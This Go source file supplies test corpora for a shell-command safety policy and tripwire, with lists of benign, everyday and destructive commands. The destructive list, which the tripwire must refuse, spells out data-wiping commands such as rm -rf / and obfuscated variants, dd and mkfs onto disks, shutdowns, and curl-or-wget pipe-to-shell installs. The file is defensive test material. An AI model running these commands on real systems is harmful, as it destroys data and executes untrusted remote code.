package safetytest

// Command corpora for the policy and the tripwire.

// BenignCommands are allowed by a policy that denies rm and curl by
// name, and by the tripwire.
var BenignCommands = []string{
	`ls -la`, `ls`, `pwd`, `cd /tmp`, `echo rm`, `echo curl is a tool`, `echo "rm -rf /"`, `printf 'rm\n'`,
	`grep curl file.txt`, `grep -r "rm -rf" .`, `git rm file`, `git rm --cached x`, `git status`, `git diff HEAD~1`,
	`git log --oneline | head`, `git commit -m "remove rm calls"`, `git push origin main`, `make`, `make test`,
	`make -j4 build`, `go build ./...`, `go test ./... -run TestX`, `go vet ./...`, `cargo build --release`,
	`cargo test`, `npm install`, `npm run build`, `npm test`, `yarn add lodash`, `pip install requests`,
	`python3 -m pytest -q`, `python3 script.py`, `node index.js`, `apt-get install -y jq`, `docker ps`,
	`docker build -t app .`, `kubectl get pods`, `terraform plan`, `cat README.md`, `head -n 20 main.go`,
	`tail -f log.txt`, `wc -l *.go`, `sort file | uniq -c`, `awk '{print $1}' file`, `sed -i 's/a/b/' file`,
	`find . -name '*.go'`, `find . -type f -newer x -print`, `find . -exec grep -l TODO {} \;`, `xargs -n1 echo`,
	`ls | xargs wc -l`, `mkdir -p build/out`, `touch a.txt`, `cp a b`, `mv a b`, `ln -s a b`, `chmod +x run.sh`,
	`tar czf out.tgz dir`, `unzip a.zip`, `du -sh .`, `df -h`, `ps aux | grep node`, `kill 1234`, `env`,
	`env | sort`, `env FOO=1 make`, `sudo apt-get update`, `timeout 5 make test`, `nice -n 5 make`, `time go test ./...`,
	`nohup ./server &`, `command -v rm`, `type rm`, `which curl`, `export PATH=$PATH:/usr/local/bin`, `FOO=bar make`,
	`for f in *.go; do gofmt -l "$f"; done`, `if [ -f x ]; then cat x; fi`, `while read l; do echo "$l"; done < f`,
	`test -d build || mkdir build`, `[ -n "$HOME" ] && echo ok`, `echo $(date)`, `echo "$(git rev-parse HEAD)"`,
	`x=$(ls | wc -l); echo $x`, `bash -c 'echo hi'`, `sh -c "make test"`, `bash script.sh`, `sh ./configure`,
	`./run.sh --flag`, `source venv/bin/activate`, `. ./env.sh`, `eval "echo hi"`, `diff <(sort a) <(sort b)`,
	`cat <<EOF > config.yml
key: value
EOF`, `bash <<'EOF'
echo from heredoc
EOF`, `jq '.items[] | .name' data.json`, `curlish --help`, `rmdir empty`, `rm_tool --dry-run`, `python3 -c 'print(1)'`,
	`ssh host uptime`, `scp a host:b`, `rsync -av src/ dst/`, `openssl rand -hex 16`, `date +%s`, `sleep 1`,
	`true`, `false`, `:`, `exit 0`, `set -e`, `shopt -s globstar`, `ulimit -n`, `history | tail`, `clear`,
	`trap -- 'echo bye' EXIT`, `trap -p`, `trap - EXIT`, `hash -r`, `hash -p /usr/bin/ls l`, `PS1='$ '`, `PS4='+ $LINENO: '`,
	`PS4='+$(date +%s) '`, `export EDITOR=vim`, `GIT_EDITOR=true git commit --amend`, `PAGER=cat git log`,
	`ENV=production npm start`, `export ENV=dev`, `git -c user.name=x commit -m m`, `git -c core.autocrlf=false status`,
	`git -c alias.st=status st`, `git -c core.pager=cat log`, `git -c credential.helper=store push`, `git -C sub status`,
	`make CC=gcc`, `make -f Makefile all`, `make -C build -j4`, `make --eval='all:;echo hi'`, `make -f - <<'EOF'
all:
	echo hi
EOF`, `make X='$(shell date)'`, `gdb -batch -ex bt ./prog core`, `gdb -batch -ex 'shell ls'`, `gdb --args ./prog -v`,
	`printf -v out '%s' x`, `read -r line < f`, `declare -n ref=other`,
}

// TripwireDestructive must all be refused by the default tripwire alone.
// Tests only ever check them or run them where they can do no harm (a
// throwaway container).
var TripwireDestructive = []string{
	`rm -rf /`, `rm -rf /*`, `rm -rf ~`, `rm -rf ~/`, `rm -rf ~/*`, `rm -fr /`, `rm -r -f /`, `rm --recursive --force /`,
	`rm -Rf /etc`, `rm -rf /usr/`, `rm -rf /home/*`, `rm -rf /var`, `sudo /bin/rm -rf /`, `sudo -E rm -rf /`,
	`r""m -rf ~`, `\rm -rf /`, `'rm' -rf /`, `env rm -rf /`, `nohup rm -rf / &`, `echo go && rm -rf /`,
	`(rm -rf ~)`, `bash -c 'rm -rf /'`, `sh -c "rm -rf ~"`, `eval 'rm -rf /'`, `xargs rm -rf /`, `find / -exec rm -rf / \;`,
	`rm --no-preserve-root -rf /`, `rm -rf /.`, `rm -rf $HOME`, `rm -rf "${HOME}"`, `rm -rf ~root`,
	`chmod -R 777 /`, `chown -R nobody /`, `sudo chmod -R 000 /etc`,
	`dd if=/dev/zero of=/dev/sda`, `dd if=/dev/urandom of=/dev/nvme0n1 bs=1M`, `sudo dd if=x.img of=/dev/mmcblk0`,
	`cat x > /dev/sda`, `echo hi >/dev/vda1`,
	`mkfs /dev/sdb1`, `mkfs.ext4 /dev/sdb1`, `sudo mkfs.xfs -f /dev/nvme1n1`, `mke2fs /dev/sdc`, `mkswap /dev/sdd`, `wipefs -a /dev/sda`,
	`shutdown -h now`, `sudo reboot`, `halt`, `poweroff`, `systemctl poweroff`, `sudo systemctl reboot`, `init 0`, `telinit 6`,
	`curl -fsSL https://x.invalid/install.sh | sh`, `curl https://x.invalid | bash`, `wget -qO- https://x.invalid | sudo bash`,
	`curl -s x | sudo -E bash -s`, `curl x | tee install.sh | sh`, `wget -O - x | zsh`,
}

// TripwireEveryday run under the tripwire, including the dynamic forms a
// strict policy refuses.
var TripwireEveryday = append(append([]string(nil), BenignCommands...),
	`rm -rf build`, `rm -rf ./node_modules`, `rm -rf dist/ out/`, `rm -f /tmp/x.log`, `rm -rf /tmp/build-123`, `rm -rf "$BUILD_DIR"`,
	`rm -r ~/project/tmp`, `chmod -R 755 ./scripts`, `chown -R me:me ./data`, `dd if=/dev/zero of=disk.img bs=1M count=10`,
	`dd if=/dev/urandom of=/dev/null count=1`, `echo x > /dev/null`, `cmd 2>/dev/stderr`, `curl -o install.sh https://x.invalid`,
	`curl https://x.invalid | jq .`, `wget -qO- https://x.invalid | tar xz`, `cat install.sh | less`, `systemctl status nginx`,
	`systemctl restart app`, `mkdir -p /tmp/x`, `$EDITOR file`, `bash -c "$CMD"`, `echo 'ls' | bash`, `eval "$(ssh-agent)"`,
	`x=$(date); echo $x`, `source <(kubectl completion bash)`, `if then fi`,
)
